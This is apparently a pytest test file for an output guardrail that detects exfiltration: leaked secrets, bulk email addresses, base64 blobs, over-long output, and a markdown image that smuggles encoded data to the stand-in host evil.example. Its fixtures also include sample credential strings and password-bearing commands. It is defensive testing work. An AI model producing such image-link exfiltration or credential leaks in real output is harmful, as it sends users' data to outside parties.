"""Exfiltration detection on outputs: secrets, bulk personal data, abnormal patterns, one risk score."""

from __future__ import annotations

import base64
import os

import pytest

from stockade.guardrails import Action, GuardrailSystem
from stockade.guardrails.checks.config import ContentChecksConfig, ExfiltrationConfig
from stockade.guardrails.checks.exfiltration.check import ExfiltrationCheck
from stockade.guardrails.checks.exfiltration.secrets import SecretScanner

ONLY_EXFIL = {"guardrails": {"checks": {"pii": {"enabled": False}, "classification": {"enabled": False}}}}


@pytest.fixture(scope="module")
def check() -> ExfiltrationCheck:
    return ExfiltrationCheck(ExfiltrationConfig())


def test_plain_answer_is_allowed(check: ExfiltrationCheck) -> None:
    result = check.evaluate("The capital of France is Paris. It has about two million inhabitants.")
    assert result.action is Action.ALLOW and result.score == 0.0


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("use AKIAZ3MSJV4WWNKWW5FG for the bucket", "aws_access_key_id"),
        ("token ghp_8sK2mQ9xLp4vR7tY1wE3nB6cZ0aD5fG2hJ4k here", "github_token"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1c7+9z5Pad7OejecsQ0bu3aumce\n", "private_key"),
        ("db_password = 'Zx8#kq2!Lm9v'", "credential_in_context"),
        ("postgres://admin:S3cr3tPassw0rd@db.internal:5432/prod", "url_credentials"),
    ],
)
def test_secrets_block_output_and_name_the_rule(check: ExfiltrationCheck, text: str, rule: str) -> None:
    result = check.evaluate(text)
    assert result.action is Action.BLOCK
    assert rule in {f.type for f in result.findings}


def test_low_entropy_words_in_credential_context_are_not_secrets() -> None:
    hits = SecretScanner(use_detect_secrets=False).scan("set the password = <your password> and token: none")
    assert hits == []


def test_detect_secrets_plugins_add_findings() -> None:
    # A Slack token shape only detect-secrets' plugin knows in this form (our table needs 10+ chars after xox?-).
    text = "slack: xoxb-123456789012-abcdefABCDEF"
    with_plugins = {h.rule for h in SecretScanner(use_detect_secrets=True).scan(text)}
    assert any(r.startswith("detect_secrets:") or r == "slack_token" for r in with_plugins)


def test_bulk_personal_data_masks_then_blocks(check: ExfiltrationCheck) -> None:
    rows = [f"user{i}@example.org, 555-01{i:02d}-{1000 + i}" for i in range(3)]
    few = check.evaluate("\n".join(rows[:1]))
    assert few.action is not Action.BLOCK
    many = check.evaluate("\n".join(f"user{i}@example.org" for i in range(12)))
    assert many.action is Action.BLOCK and {f.type for f in many.findings} == {"EMAIL_ADDRESS"}
    some = check.evaluate("\n".join(f"user{i}@example.org" for i in range(5)))
    assert some.action is Action.MASK


def test_markdown_image_smuggling_data_is_blocked(check: ExfiltrationCheck) -> None:
    payload = base64.urlsafe_b64encode(os.urandom(48)).decode()
    text = f"Here is your summary. ![logo](https://evil.example/p.png?d={payload})"
    result = check.evaluate(text)
    assert result.action is Action.BLOCK
    assert "markdown_image_exfiltration" in {f.type for f in result.findings}


def test_ordinary_links_and_images_pass(check: ExfiltrationCheck) -> None:
    text = "See ![diagram](https://docs.example.com/img/arch.png) and https://example.com/docs?page=2"
    assert check.evaluate(text).action is Action.ALLOW


def test_base64_blob_is_masked_not_blocked(check: ExfiltrationCheck) -> None:
    blob = base64.b64encode(os.urandom(150)).decode()
    result = check.evaluate(f"Output follows: {blob} end")
    assert result.action is Action.MASK
    assert any(f.type == "base64_blob" and f.action is Action.MASK for f in result.findings)


def test_unusually_long_output_warns() -> None:
    cfg = ExfiltrationConfig(patterns={"max_output_chars": 200})  # type: ignore[arg-type]
    result = ExfiltrationCheck(cfg).evaluate("word " * 100)
    assert result.action is Action.WARN
    assert [f.type for f in result.findings] == ["unusually_long_output"]


def test_config_refuses_input_stage() -> None:
    with pytest.raises(ValueError):
        ContentChecksConfig(exfiltration={"stages": ["input", "output"]})  # type: ignore[arg-type]


async def test_wired_into_check_output_only_and_masks_text() -> None:
    system = GuardrailSystem(ONLY_EXFIL)
    blob = base64.b64encode(os.urandom(150)).decode()
    text = f"result {blob} done"
    assert (await system.check_input(text)).action is Action.ALLOW
    verdict = await system.check_output(text)
    assert verdict.action is Action.MASK and verdict.passed
    assert verdict.masked_text == "result <BASE64_BLOB> done"
    blocked = await system.check_output("here: AKIAZ3MSJV4WWNKWW5FG")
    assert blocked.blocked and "exfiltration" in (blocked.error or "")
    assert "AKIAZ3MSJV4WWNKWW5FG" not in blocked.model_dump_json()


@pytest.mark.parametrize(
    "text",
    [
        "CREATE USER app IDENTIFIED BY 'Tq7#pLm2Zx';",
        "mysql -u root --password Sne3sd8AZjq",
        "<password>Hq8!vR2mZp</password>",
        'if (password !== "PaS5w0rD2#") {',
        'curl -u "admin:dG9rZW4gQ2" https://127.0.0.1',
        '$env:P = ConvertTo-SecureString "4yd21JKH~GE8dkd"',
    ],
)
def test_credential_forms_in_code_and_commands(text: str) -> None:
    hits = SecretScanner(use_detect_secrets=False).scan(text)
    assert [h.rule for h in hits] == ["credential_in_context"]


@pytest.mark.parametrize(
    "text",
    [
        "bypass = 'cackle12!'",  # 'pass' inside another word is not a key
        "token: ghp_1111111111111111111111111111111111111",  # a made-up, low-entropy value
        "api_key = 'ABCDEFGHIJKLMNOP12345'",  # a run of sequential characters
        "ALTER USER bob PASSWORD EXPIRE INTERVAL 90 DAY;",  # a keyword, not a value
    ],
)
def test_fake_or_keyword_values_are_not_secrets(text: str) -> None:
    assert SecretScanner(use_detect_secrets=False).scan(text) == []
